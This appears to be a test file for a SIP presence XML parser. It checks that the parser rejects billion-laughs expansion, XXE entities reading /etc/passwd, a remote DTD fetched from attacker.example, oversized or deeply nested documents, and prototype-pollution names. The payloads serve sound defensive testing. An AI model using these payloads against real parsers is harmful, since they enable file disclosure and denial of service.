import { describe, it, expect } from '../../support/harness.js';
import { MAX_PRESENCE_DOCUMENT_DEPTH, PRESENCE_DOCUMENT_LIMITS, parseDialogInfo, parsePidf } from '../../../src/core/presence/index.js';
import { expectCentrexError } from './expect-error.js';

const NS = 'urn:ietf:params:xml:ns:dialog-info';
const open = `<dialog-info xmlns="${NS}" version="0" state="full" entity="sip:a@b">`;
const close = '</dialog-info>';
const VALID = `${open}<dialog id="1"><state>confirmed</state></dialog>${close}`;

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<dialog-info xmlns="${NS}" version="0" state="full" entity="&lol9;"><dialog id="&lol9;"><state>early</state></dialog></dialog-info>`;

/** A valid document whose dialog holds `levels` nested foreign elements. */
const nestedDialog = (levels: number): string =>
  `${open}<dialog id="1"><state>early</state>${'<x>'.repeat(levels)}${'</x>'.repeat(levels)}</dialog>${close}`;

/** Milliseconds since an arbitrary origin; tests may read a clock, the library may not. */
const now = (): number => performance.now();

describe('hostile XML', () => {
  it('parses the valid baseline used below', () => {
    expect(parseDialogInfo(VALID).dialogs).to.have.length(1);
  });

  it('rejects billion laughs fast, before any expansion', () => {
    const started = now();
    expectCentrexError(() => parseDialogInfo(BILLION_LAUGHS), 'invalid-xml', 'dtd-forbidden');
    expectCentrexError(() => parsePidf(BILLION_LAUGHS), 'invalid-xml', 'dtd-forbidden');
    expect(now() - started).to.be.lessThan(1000);
  });

  it('rejects external entities and any DOCTYPE or markup declaration', () => {
    const external = `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${open}<dialog id="&xxe;"><state>early</state></dialog>${close}`;
    expectCentrexError(() => parseDialogInfo(external), 'invalid-xml', 'dtd-forbidden');
    const parameterEntity = `<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>${VALID}`;
    expectCentrexError(() => parseDialogInfo(parameterEntity), 'invalid-xml', 'dtd-forbidden');
    expectCentrexError(() => parseDialogInfo(`<!DOCTYPE dialog-info>${VALID}`), 'invalid-xml', 'dtd-forbidden');
    expectCentrexError(() => parseDialogInfo(`<!doctype dialog-info>${VALID}`), 'invalid-xml', 'dtd-forbidden');
    expectCentrexError(() => parseDialogInfo(`${open}<!ENTITY x "y"><dialog id="1"><state>early</state></dialog>${close}`), 'invalid-xml', 'dtd-forbidden');
  });

  it('rejects references to entities that were never declared', () => {
    expectCentrexError(() => parseDialogInfo(`${open}<dialog id="&xxe;"><state>early</state></dialog>${close}`), 'invalid-xml', 'undeclared-entity');
    expectCentrexError(() => parseDialogInfo(`${open}<dialog id="1"><state>early&nbsp;</state></dialog>${close}`), 'invalid-xml');
    expectCentrexError(() => parseDialogInfo(`${open}<dialog id="a & b"><state>early</state></dialog>${close}`), 'invalid-xml');
  });

  it('allows DOCTYPE-like text inside a comment or a CDATA section', () => {
    expect(parseDialogInfo(`<!-- <!DOCTYPE x> -->${VALID}`).dialogs).to.have.length(1);
    const cdata = `${open}<dialog id="1"><state>early</state><x><![CDATA[<!DOCTYPE x [<!ENTITY a "b">]>]]></x></dialog>${close}`;
    expect(parseDialogInfo(cdata).dialogs).to.have.length(1);
  });

  it('rejects a 10 MB document without parsing it', () => {
    const padding = `<dialog id="x"><state>terminated</state></dialog>`;
    const huge = open + padding.repeat(Math.ceil((10 * 1024 * 1024) / padding.length)) + close;
    const started = now();
    const error = expectCentrexError(() => parseDialogInfo(huge), 'invalid-xml', 'too-large');
    expect(error.details?.['maxBytes']).to.equal(PRESENCE_DOCUMENT_LIMITS.maxBytes);
    expect(now() - started).to.be.lessThan(1000);
  });

  it('counts the size in UTF-8 bytes', () => {
    const name = 'ä'.repeat(200);
    const doc = `${open}<dialog id="1"><state>early</state><local><identity display="${name}">sip:a@b</identity></local></dialog>${close}`;
    expect(parseDialogInfo(doc, { maxBytes: doc.length + 200 }).dialogs).to.have.length(1);
    expectCentrexError(() => parseDialogInfo(doc, { maxBytes: doc.length + 199 }), 'invalid-xml', 'too-large');
  });

  it('rejects 100 000 levels of nesting by size, and by depth when the size limit is raised', () => {
    const deep = '<a>'.repeat(100_000) + '</a>'.repeat(100_000);
    expectCentrexError(() => parseDialogInfo(deep), 'invalid-xml', 'too-large');
    const started = now();
    expectCentrexError(() => parseDialogInfo(deep, { maxBytes: 1_000_000 }), 'invalid-xml', 'too-deep');
    const deepNamed = `<dialog-info xmlns="${NS}">`.repeat(100_000);
    expectCentrexError(() => parsePidf(deepNamed, { maxBytes: 10_000_000 }), 'invalid-xml', 'too-deep');
    expect(now() - started).to.be.lessThan(2000);
  });

  it('enforces the depth limit exactly and lets callers change it', () => {
    const nested = nestedDialog;
    // dialog-info and dialog take two levels.
    expect(parseDialogInfo(nested(PRESENCE_DOCUMENT_LIMITS.maxDepth - 2)).dialogs).to.have.length(1);
    expectCentrexError(() => parseDialogInfo(nested(PRESENCE_DOCUMENT_LIMITS.maxDepth - 1)), 'invalid-xml', 'too-deep');
    expect(parseDialogInfo(nested(100), { maxDepth: 102 }).dialogs).to.have.length(1);
    expectCentrexError(() => parseDialogInfo(VALID, { maxDepth: 2 }), 'invalid-xml', 'too-deep');
  });

  it('parses up to the largest depth a caller may allow', () => {
    const levels = MAX_PRESENCE_DOCUMENT_DEPTH - 2;
    const doc = nestedDialog(levels);
    expect(parseDialogInfo(doc, { maxDepth: MAX_PRESENCE_DOCUMENT_DEPTH }).dialogs).to.have.length(1);
    expectCentrexError(() => parseDialogInfo(nestedDialog(levels + 1), { maxDepth: MAX_PRESENCE_DOCUMENT_DEPTH }), 'invalid-xml', 'too-deep');
  });

  it('rejects too many elements', () => {
    const many = open + '<x/>'.repeat(PRESENCE_DOCUMENT_LIMITS.maxElements) + close;
    expectCentrexError(() => parseDialogInfo(many), 'invalid-xml', 'too-many-elements');
    expect(parseDialogInfo(many, { maxElements: PRESENCE_DOCUMENT_LIMITS.maxElements + 1 }).dialogs).to.deep.equal([]);
  });

  it('rejects invalid limits with invalid-argument', () => {
    for (const options of [{ maxBytes: 0 }, { maxDepth: -1 }, { maxElements: 1.5 }, { maxBytes: '100' }, 'big', { maxDepth: MAX_PRESENCE_DOCUMENT_DEPTH + 1 }]) {
      expectCentrexError(() => parseDialogInfo(VALID, options as never), 'invalid-argument');
    }
  });

  it('rejects documents that are not well-formed', () => {
    const cases: readonly (readonly [string, string])[] = [
      [VALID.slice(0, VALID.length - 10), 'truncated'],
      [VALID.slice(0, 40), 'truncated'],
      [`${open}<dialog id="1"><state>early</dialog>${close}`, 'not-well-formed'],
      [`${open}<dialog id="1" id="2"><state>early</state></dialog>${close}`, 'not-well-formed'],
      [`${open}<dialog id="1<2"><state>early</state></dialog>${close}`, 'not-well-formed'],
      [`${open}<dialog id=1><state>early</state></dialog>${close}`, 'not-well-formed'],
      [`${VALID}<dialog-info/>`, 'not-well-formed'],
      [`${open}${close}<extra/>`, 'not-well-formed'],
      [`${VALID}trailing text`, 'text-outside-root'],
      [`<dialog-info xmlns="${NS}" version="0" state="full" entity="sip:a@b"/>junk`, 'text-outside-root'],
      [`${open}<dialog id="1"><state>early ]]> </state></dialog>${close}`, 'not-well-formed'],
      [`${open}<dialog id="1"><state>early</state></dialog><!-- unterminated ${close}`, 'truncated'],
      [`${open}<dialog id="1"><state>early\u0000</state></dialog>${close}`, 'invalid-character'],
      [`${open}<dialog id="&#0;"><state>early</state></dialog>${close}`, 'invalid-character'],
      [`${open}<dialog id="&#xD800;"><state>early</state></dialog>${close}`, 'invalid-character'],
      [`${open}<dialog id="&#x110000;"><state>early</state></dialog>${close}`, 'invalid-character'],
      ['', 'no-root'],
      ['   \n ', 'no-root'],
      ['just text', 'text-outside-root'],
      ['<1dialog/>', 'not-well-formed'],
    ];
    for (const [doc, reason] of cases) expectCentrexError(() => parseDialogInfo(doc), 'invalid-xml', reason);
  });

  it('rejects namespace errors: undeclared prefixes, bad names, reserved bindings', () => {
    expectCentrexError(() => parseDialogInfo('<d:dialog-info version="0" state="full" entity="sip:a@b"/>'), 'invalid-xml', 'undeclared-prefix');
    expectCentrexError(() => parseDialogInfo(`${open}<dialog id="1" x:y="z"><state>early</state></dialog>${close}`), 'invalid-xml', 'undeclared-prefix');
    expectCentrexError(() => parseDialogInfo(`<a:b:dialog-info xmlns:a="${NS}"/>`), 'invalid-xml', 'bad-name');
    expectCentrexError(() => parseDialogInfo(`<d:dialog-info xmlns:d=""/>`), 'invalid-xml', 'bad-namespace');
    expectCentrexError(() => parseDialogInfo(`<dialog-info xmlns:xml="urn:other" xmlns="${NS}"/>`), 'invalid-xml', 'bad-namespace');
    expectCentrexError(
      () => parseDialogInfo(`<dialog-info xmlns="${NS}" xmlns:a="urn:x" xmlns:b="urn:x" a:v="1" b:v="2" version="0" state="full" entity="sip:a@b"/>`),
      'invalid-xml',
      'duplicate-attribute',
    );
  });

  it('does not pollute prototypes through element or attribute names', () => {
    for (const doc of [
      `${open}<__proto__><polluted>yes</polluted></__proto__>${close}`,
      `${open}<constructor/>${close}`,
      `${open}<dialog id="1" __proto__="x"><state>early</state></dialog>${close}`,
    ]) {
      try {
        parseDialogInfo(doc);
      } catch (error) {
        expectCentrexError(() => {
          throw error;
        }, 'invalid-xml');
      }
      expect(({} as Record<string, unknown>)['polluted']).to.equal(undefined);
    }
  });

  it('keeps error messages short when the document puts long names or values into them', () => {
    const long = 'n'.repeat(100_000);
    for (const [doc, code] of [
      [`<${long}></x>`, 'invalid-xml'],
      [`<${long}>`, 'invalid-xml'],
      [`<p:${long} xmlns:q="urn:q"/>`, 'invalid-xml'],
      [`<${long} xmlns="urn:${long}"/>`, 'unexpected-document'],
      [`${open}<dialog id="${long}"><state>${long}</state></dialog>${close}`, 'unexpected-document'],
    ] as const) {
      const error = expectCentrexError(() => parseDialogInfo(doc, { maxBytes: 1_000_000 }), code);
      expect(error.message.length, error.message.slice(0, 100)).to.be.lessThan(400);
      expect(JSON.stringify(error.details).length).to.be.lessThan(1000);
    }
  });

  it('rejects non-string input with invalid-argument', () => {
    for (const input of [undefined, null, 42, true, {}, [VALID], new Uint8Array([60, 97, 47, 62])]) {
      expectCentrexError(() => parseDialogInfo(input as unknown as string), 'invalid-argument');
      expectCentrexError(() => parsePidf(input as unknown as string), 'invalid-argument');
    }
  });

  it('accepts a byte order mark, CRLF line ends, comments and processing instructions', () => {
    const doc = `\uFEFF<?xml version="1.0" encoding="UTF-8"?>\r\n<!-- generated -->\r\n${open}\r\n<?vendor data?><dialog id="1"><state>confirmed</state></dialog>${close}\r\n`;
    expect(parseDialogInfo(doc).dialogs[0]?.state).to.equal('confirmed');
  });

  it('normalizes whitespace in attribute values but keeps references to it', () => {
    const doc = `${open}<dialog id="1"><state>early</state><local><identity display="A\tB&#9;C">sip:a@b</identity></local></dialog>${close}`;
    expect(parseDialogInfo(doc).dialogs[0]?.local?.displayName).to.equal('A B\tC');
  });
});
